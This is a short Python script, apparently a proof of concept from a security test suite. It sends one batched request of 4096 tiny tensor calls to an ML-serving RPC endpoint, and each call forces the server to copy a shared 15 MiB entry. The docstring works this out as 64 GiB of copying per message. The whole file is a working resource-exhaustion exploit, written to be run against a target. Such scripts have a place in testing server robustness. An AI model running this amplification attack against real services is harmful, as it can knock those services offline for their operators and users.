"""A batch of 4096 calls that look at one element each of one large entry: where the entry came in pieces, each call
gathers all of it first. By their estimates they are tiny, and run where tiny calls run.

Cost: 15 MiB and 150 KiB. Found: each of the 4096 copies 15 MiB: 64 GiB of copying for a message.
"""

import wire
from attack import Attack, Target, run

ENTRY = bytes(15 << 20)
ONE = wire.call("Hardshrink", [wire.tensor("self", wire.FLOAT32, [1], [1], offset=1000, raw=0)], lambd=0.5)
MESSAGE = wire.batch([ONE] * 4096, [ENTRY])


def ask(target: Target) -> None:
    connection = target.connect()
    connection.unary("ExecuteBatch", MESSAGE, seconds=target.seconds)


if __name__ == "__main__":
    run(Attack([ask, ask]))
